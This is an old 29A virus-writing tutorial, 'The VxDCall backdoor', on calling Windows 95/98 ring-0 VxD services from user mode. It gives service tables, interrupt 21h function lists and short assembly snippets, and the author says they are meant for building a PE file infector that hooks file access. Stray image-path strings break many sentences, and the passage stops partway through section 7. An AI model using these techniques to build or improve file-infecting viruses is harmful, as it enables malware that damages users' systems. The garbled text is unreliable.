The VxDCall backdoor
by GriYo / 29A


    2. "SUPERVISOR MODE" hacking
    3. The API VxDCall
    4. Win32 services exported by system VxD's
    5. KERNEL32.DLL and the interrupt 21h
    6. Interrupt 21h functions
    7. Allocating shared memory
    8. VxDCall hooking
    9. Last words


Windows95/98 uses two of the four protection levels supported by the i386 proccessor and its succesors:

We all know that user applications are potential targets for viruses. If you are going to write a PE file infector your code will be executed at 'user mode', under the strict control of the operating system. Can the execution escape from this privilege level?

2 - "SUPERVISOR MODE" hacking

When an infected program is executed the virus code receives control for the very first time. At this point we know that the virus isworking under 'user mode', far away from the 'supervisor mode'. To reach ring-0 we have to use one of the below described methods:

3 - The API VxDCall

"... A VxD is really nothing more than a DLL that runs at the highest privilege level of the processor (ring 0). Since VxD's runs at ring 0, there's essentially nothing they can't do".

After I read this fragment in Matt Pietrek's book 'Windows95 System Programming Secrets' I thought that VxD's might contain exported services, as DLL's do. I knew that VxD's exported services to other VxD's but did they export services to Win32?. If that was the case theseservices could be very useful for virus programming, because they are similar to API's but is running at ring-0.

After reading more at this subject I learned the answer to the above question. Yes VxD's contains all kind of services that are exported to other VxD's and Win32. The problem was now how to communicate with the VxD's at ring-0 from ring-3, which the virus is at.

After a little more research, I found a API called DeviceIoControl. This API allows a application to send/receive information to/from a VxD file. I then did some testing andlearned this wasn't the API I was looking for, as DeviceIoControl doesn't allow the application to use services exported by VxD's.

When I tried to find some information about how to call Win32 services inside VxD's, all I could find was a reference. It seems to me like some poor attempt to hide important information about the internals of the operating system.

The key to it all is a undocumented API, which lets us use a powerful interface between ring-3 and ring-0. This API is called VxDCall and is exported by KERNEL32.DLL, but wait! Dont browse KERNEL32 exported APInames because its not there. In order to drop more shadows on this Microsoft coders decided to hide this API, exporting it only as ordinal, not as name.

If we look at KERNEL32.DLL, we'll find tons of calls to this API. In some cases KERNEL32 code is just a wrapper between applications and VxD services.

The following piece of code shows how to call the service_PageFree, exported by VMM.VXD to Win32:

        push 00000000h
        push dword ptr[allocated_addr]
        push 0001000Ah
        call dword ptr [a_VxDCall]
        jmp init_error

The first two instruction push the parameters needed by _PageFree into the stack. The 3rd instruction is part of the protocol used to call VxDCall. The low-word is an index that indentifies the service we want to call. The high-word indentifies the VxD containing that service. In this example the codification is:

        0001h = VMM.VXD
        000Ah = _PageFree

If we debug a call to KERNEL32 VirtualFree API we will find that the code just checks input parameters. Some lines ahead is a call to VMM _PageFree service, wich do the dirty work.

Now lets see some of the services exported to Win32 by system VxD's. Just by reading the name of the service you can imagine lots of ideas on how to use them in virus writing.

4 - Win32 services exported by system VxD's

Services exported by VMM.VXD:

00010000h   PageReserve
00010001h   PageCommit
00010002h   PageDecommit
00010003h   PagerRegister
00010004h   PagerQuery
00010005h   HeapAllocate
00010006h   ContextCreate
00010007h   ContextDestroy
00010008h   PageAttach
00010009h   PageFlush0001000Ah   PageFree
0001000Bh   ContextSwitch
0001000Ch   HeapReAllocate
0001000Dh   PageModifyPermissions
0001000Eh   PageQuery
0001000Fh   GetCurrentContext
00010010h   HeapFree
00010011h   RegOpenKey
00010012h   RegCreateKey
00010013h   RegCloseKey
00010014h   RegDeleteKey
00010015h   RegSetValue
00010016h   RegDeleteValue00010017h   RegQueryValue
00010018h   RegEnumKey
00010019h   RegEnumValue
0001001Ah   RegQueryValueEx
0001001Bh   RegSetValueEx
0001001Ch   RegFlushKey
0001001Dh       ???
0001001Eh   GetDemandPageInfo
0001001Fh   BlockOnID
00010020hSignalID
00010021h   RegLoadKey
00010022h   RegUnloadKey
00010023h   RegSaveKey
00010024h   RegRemapPreDefKey
00010025h   PageChangePager
00010026h   RegQueryMultipleValues
00010027h   RegReplaceKey

Another VxD exporting services to Win32 is VWIN32.VXD. Some of this services are:

002A0000    GetVersion
002A0001    Stuff VWIN32 code pointers into caller-supplied buffer
002A0002    Get system time
002A0003    Stuff code pointers from KERNEL32 into VWIN32's data area
002A0004    Block on some semaphore
002A0005    Calls Signal_Semaphore_No_Switch on some semaphore
002A0006    Calls VMM Create_Semaphore, and stuff into global var
002A0007    Calls VMM Destroy_Semaphore on semaphore created by 002A0006
002A0008    VWIN32_CreateThread (including allocating TDBX)
002A0009    VWIN32_Sleep
002A000A    WakeThread
002A000B    TerminateThread
002A000C    Some sort of initialization function
002A000D    _VWIN32_QueueUserApc
002A000E    VWIN32_Initialize002A000F    _VWIN32_QueueKernelApc
002A0010    VWIN32_Int21Dispatch
002A0011    Calls IFSMgr_Win32DupHandle
002A0012VWIN32_BlockThreadSetBit
002A0013    Adjust_Thread_Exec_Priority
002A0014    _VWIN32_Get_Thread_Context
002A0015    _VWIN32_Set_Thread_Context
002A0016    Read process memory
002A0017    Write process memory
002A0018    Calls VMCPD_Get_CR0_State
002A0019    Calls VMCPD_Set_CR0_State
002A001A    SuspendThread
002A001B    ResumeThread
002A001C    ???
002A001D    WaitCrst
002A001E    WakeCrst
002A001F    Something to do with loading/unloading VxD's
002A0020    WMCPD_Get_Version
002A0021    Set_Thread_Win32_Pri
002A0022    Calls Boost_With_Decay
002A0023    Calls Set_Inversion_Pri
002A0024    Calls Release_Inversion_Pri_ID
002A0025    Calls Release_Inversion_Pri
002A0026    Calls Attach_Thread_To_Group002A0027    Calls Set_Thread_Static_Boost
002A0028    Calls Set_Group_Static_Boost
002A0029    VWIN32_Int31Dispatch
002A002A    VWIN32_Int41Dispatch
002A002B    VWIN32_BlockForTermination
002A002C    TerminationHandler2
002A002D    ???
002A002E    dwBlockSingleWnod (WaitForSingleObject)
002A002F    dwBlockMultipleWnod (WaitForMultipleObjects)
002A0030    VWIN32_SetEvent
002A0031    Something to do with delivering APC's
002A0032    ???
002A0033    InitUserAPCList
002A0034    ???
002A0035    Calls VMM Signal_Semaphore_No_Switch
002A0036    Calls System_Control (KERNEL32_INITIALIZED)
002A0037    VWIN32_CommonFaultPopup
002A0038    VWIN32_ForceCrsts
002A0039    ???002A003A    VWIN32_FreezeAllThreads
002A003B    VWIN32_UnFreezeAllThreads
002A003C    Calls IFS_Mgr_Ring0_FileIO
002A003D    Calls Get_Initial_Thread_Handle, Attach_Thread_To_Group and
002A003E    VWIN32_ActivateTimeBiasSet
002A003FModifyPagePermission (used by VirtualQueryEx)
002A0040    Used by VirtualQueryEx
002A0041    ForceLeaveCrst
002A0042    ForceEnterCrst
002A0043    Calls VMCPD_Set_Thread_Excpt_Type
002A0044    VTD_Get_Real_Time
002A0045    Calls System_Control (SET_DEVICE_FOCUS)
002A0046    Calls VWIN32_UnFreezeThread
002A0047    Calls VMM_Replace_Global_Environment
002A0048    Calls System_Control (KERNEL32_SHUTDOWN)
002A0049    ???
002A004A    VW32_AddSysCrst
002A004B    VW32_SetTimeOut
002A004C    VW32_Cancel_Time_Out
002A004D    ???
002A004E    Something to do with setting and reflecting hotkeys


        Crst means Critical Section

                APC means Asynchronous Procedure CallVMCPD is the Virtual Math Coprocessor Device

                IFSMgr is the Installable File System Manager

                System_Control is the VMM.VXD ring 0 service that broadcasts
                system control messages to VxD's.

5 - KERNEL32.DLL and the interrupt 21h

Look close at VWIN32 exported services. There is one called VWIN32_Int21Dispatch. Its is a backdoor that allows Win32 tocall the well known interrupt 21h. Now search the KERNEL32 code and look for calls to this service. Oh! There are hundreds! I though Microsoft said that Windows95 doesnt deppend on MsDos. Below is a example of how to call interrupt 21h using that service:

my_int21h:push ecx
        push eax
        push 002A0010h
        call dword ptr [ebp+a_VxDCall]

I found the right way to call VWIN32_Int21hDispatch by looking at how KERNEL32 calls it. I learned that Windows uses interrupt 21h to perform tasks such as: find, open, read,write, close, delete or rename files. By hooking all these functions with VxDCall, we can effectively monitor file access.

6 - Interrupt 21h functions

This is a list of interrupt 21h functions for MS-DOS LFN (long file name) extension. KERNEL32 uses these functions continiuosly.

0E00        Set default drive
1900        Get current drive
2A00        Get system date
2B00        Set system date
2C00        Get system time
2D00        Set system time
3600        Get disk free space
3D00        Open existing file for read only3D02        Open existing file for read/write
3E00        Close file
3F00        Read file
4000        Write file
4200        Set current file position relative to start of file
4201        Set current file position relative to current position
4202        Set current file position relative to end of file
4400        IOCTL get device information
4401        IOCTL set device information
4408        IOCTL check if block device is removable
4409        IOCTL check if block device remote
440D        IOCTL generic block device request
4B00        Exec program
4D00        Get return code
5000        Set current PSP
5700        Get file date/time
5701        Set file date/time
5704        Set extended file attributes
5900        Get extended error info
5C00        Lock file region
5C01        Unlock file region
5E00        Network functions6800        Commit file
7139        LFN create directory
713A        LFN remove directory
713B        LFN change directory
7141        LFN delete file
7143        LFN get/set file attributes
7147        LFN get current directory
714E        LFN find first file
714F        LFN find next file
7156        LFN rename file
7160        LFN get canonical filename
716C        LFN extended open/create
71A0        LFN get volume information
71A1        LFN find close
71A6        LFN get file info by handle
71A7        LFN file time to DOS time

The following example shows how to use these functions. This code will be useful later in our virus.

;Move file pointer;Entry:     ebx = File handle

seek_here:  ;Move pointer to position specified in edx
        mov eax,edx
            and eax,0FFFF0000h
        shr eax,10h
        mov ecx,eax
        mov eax,00004200h
        jmp short seek_now

seek_bof:   ;Move pointer to beginning of file
        mov eax,00004200h
        jmp short do_seek

seek_eof:   ;Move pointer to end of file
        mov eax,00004202h
do_seek:    xor edx,edx
        xor ecx,ecxseek_now:   call my_int21h
        jc exit_seek
        and eax,0000FFFFh
        shl edx,10h
        or eax,edx
        xor edx,edx
exit_seek:  ret

7 - Allocating shared memory

We can use the functions exported by VMM.VXD in the same way we used with VWIN32.VXD. Lets have a look at the services used by VMM.VXD to handle 'page-based' memory in Windows95.


